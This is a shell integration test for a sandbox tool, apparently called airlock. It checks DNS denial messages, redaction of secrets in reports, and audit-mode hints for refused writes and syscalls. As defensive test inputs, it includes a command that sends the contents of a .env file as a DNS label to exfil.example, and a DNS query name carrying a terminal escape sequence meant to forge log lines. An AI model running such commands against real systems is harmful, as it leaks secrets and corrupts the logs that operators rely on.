#!/usr/bin/env bash
# ctest-labels: sanitize
# A wall is named (issue #21): when a run fails, its last lines say what
# airlock refused and how to see or allow it. As root and as uid 65534, each
# run in a network namespace the test makes (nothing can leave it):
#   - network.mode = "none": a name lookup fails at once as a name that does
#     not exist (EAI_NONAME, never EAI_AGAIN, which tools retry), the name is
#     listed with the --allow-net that would allow it and in the report, and
#     following the hint resolves it; a name with control characters in it
#     never reaches the terminal, and a flood of names is listed up to a bound;
#   - a refused write and a refused system call: the last line gives the
#     complain-mode command, and running exactly that names each refusal.
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"

PY=/usr/bin/python3
[[ -x $PY ]] || skip "no $PY"
unshare --net true 2>/dev/null || skip "cannot make a network namespace"

LOOKUP='import socket, sys
try:
    print("resolved", socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET)[0][4][0])
except socket.gaierror as e:
    print("gaierror", {socket.EAI_NONAME: "EAI_NONAME", socket.EAI_AGAIN: "EAI_AGAIN"}.get(e.errno, e.errno))
    sys.exit(1)'

# Raw queries to the sandbox's resolver: one whose name carries an escape
# sequence and a newline, then 40 distinct names.
QUERIES='import socket, struct, sys
def query(qid, labels):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
server = open("/etc/resolv.conf").read().split("nameserver ")[1].split()[0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect((server, 53))
answers = 0
for qid, labels in enumerate([[b"evil\x1b[31m\nforged", b"example"]] + [[b"n%d" % i, b"example"] for i in range(40)]):
    s.send(query(qid, labels))
    if s.recv(1500)[3] & 15 == 3:
        answers += 1
print("nxdomain answers", answers)
raise SystemExit(int(sys.argv[1]))'

for who in root nobody; do
  make_fixture "$who"
  BASE_PATH=/usr/bin:/bin
  # in_netns ARGS...: airlock ARGS as $who in the project, inside a network
  # namespace of the test's own. Sets RC, OUT and ERR.
  in_netns() {
    local user=()
    [[ $who == root ]] || user=(setpriv --reuid="$NOBODY" --regid="$NOBODY" --clear-groups)
    (cd "$PROJECT" && unshare --net -- "${user[@]}" env -i HOME="$FAKE_HOME" PATH="$BASE_PATH" LANG=C.UTF-8 \
      "$AIRLOCK" "$@") >"$SCRATCH/step.out" 2>"$SCRATCH/step.err" </dev/null
    RC=$?
    OUT=$(<"$SCRATCH/step.out")
    ERR=$(<"$SCRATCH/step.err")
  }

  # --- network.mode = "none" names the names it refused ---------------------------
  in_netns run --report "$SCRATCH/$who/none.json" -- $PY -c "$LOOKUP" registry.example
  expect_eq "$who: none: the lookup fails" 1 "$RC"
  expect_eq "$who: none: as a name that does not exist, not a time-out to retry" "gaierror EAI_NONAME" "$OUT"
  expect_contains "$who: none: the last lines name it and the option" "$ERR" \
    "denied: DNS lookup of registry.example (network.mode = \"none\" allows no network). To allow it: --allow-net registry.example:PORT"
  expect_eq "$who: none: the report lists it" "registry.example" "$($PY -c 'import json, sys
print(" ".join(q["query"] for q in json.load(open(sys.argv[1]))["network"]["denied_queries"]))' "$SCRATCH/$who/none.json" 2>&1)"
  in_netns -q run --allow-net registry.example:443 -- $PY -c "$LOOKUP" registry.example
  expect_contains "$who: none: following the hint resolves the name" "$OUT" "resolved 127.77."

  # init reads those queries: once the sandbox is built it holds CAP_KILL
  # (bit 5) alone, so nothing subverting it could remount or unmount.
  in_netns -q run -- sh -c 'grep "^CapEff" /proc/1/status'
  expect_eq "$who: none: init keeps only CAP_KILL while it answers DNS" "CapEff:	0000000000000020" "$OUT"
  in_netns run -- $PY -c "$QUERIES" 1
  expect_eq "$who: none: every query is answered NXDOMAIN at once" "nxdomain answers 41" "$OUT"
  named=$(grep 'denied: DNS lookup of' <<<"$ERR")
  expect_not_contains "$who: none: an escape sequence in a name never reaches the terminal" "$named" $'\x1b'
  expect_not_contains "$who: none: nor a line forged by a name" "$named" "forged"
  expect_not_contains "$who: none: the hint writes the command's newlines as escapes" "$ERR" $'\nfor qid'
  listed=$(grep -c 'denied: DNS lookup of' <<<"$ERR")
  expect_eq "$who: none: a flood of names is listed up to 32" 32 "$listed"

  # DNS exfiltration: a secret the step can read (the project's own .env)
  # sent as a label. The name is refused, and neither stderr nor the report
  # carries the secret; the destination's domain is named.
  secret="s3cr3tvalue0123456789abcdefXYZ$RANDOM"
  echo "$secret" >"$PROJECT/.env"
  in_netns run --report "$SCRATCH/$who/exfil.json" -- sh -c "$PY -c '$LOOKUP' \"\$(cat .env).exfil.example\""
  expect_eq "$who: exfil: the lookup fails" 1 "$RC"
  expect_contains "$who: exfil: the destination is named, the label withheld" "$ERR" \
    "denied: DNS lookup of [${#secret} characters].exfil.example"
  expect_not_contains "$who: exfil: no rule is suggested for it" "$(grep 'exfil.example' <<<"$ERR")" "To allow it"
  expect_not_contains "$who: exfil: stderr does not carry the secret" "$ERR" "$secret"
  grep -q "$secret" "$SCRATCH/$who/exfil.json" && fail "$who: exfil: the report carries the secret" ||
    pass "$who: exfil: the report does not carry the secret"

  # --- a refused write and a refused system call: complain mode names them --------
  # keyctl(2) is in @default-deny; EINVAL without the filter, EPERM with it.
  probe='echo x 2>/dev/null >"$HOME/planted" || echo "write refused"
/usr/bin/python3 -c "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall(250, 0, 0, 0, 0, 0); print(\"keyctl\", os.strerror(ctypes.get_errno()))"
exit 3'
  in_netns run -- sh -c "$probe"
  expect_eq "$who: the command fails" 3 "$RC"
  expect_contains "$who: the write was refused" "$OUT" "write refused"
  expect_contains "$who: the system call was refused" "$OUT" "keyctl Operation not permitted"
  hint=$(grep 'Complain mode names each one' <<<"$ERR" | tail -1)
  expect_contains "$who: the last line points at complain mode, with its cost" "$hint" "enforces nothing beyond hiding the known secrets"
  again=$(sed -n 's/.*use it only on code you trust: airlock //p' <<<"$hint")
  expect_contains "$who: the hint is this run with --audit" "$again" "run --audit -- sh -c "
  eval "in_netns $again"
  expect_contains "$who: complain mode names the refused write" "$ERR" "write $FAKE_HOME/planted"
  expect_contains "$who: complain mode names the refused system call" "$ERR" "syscall keyctl"
  rm -f "$FAKE_HOME/planted"
  in_netns run -- $PY -c "$QUERIES" 0
  expect_eq "$who: a run that succeeds lists no refusal" "" "$ERR"
done
finish
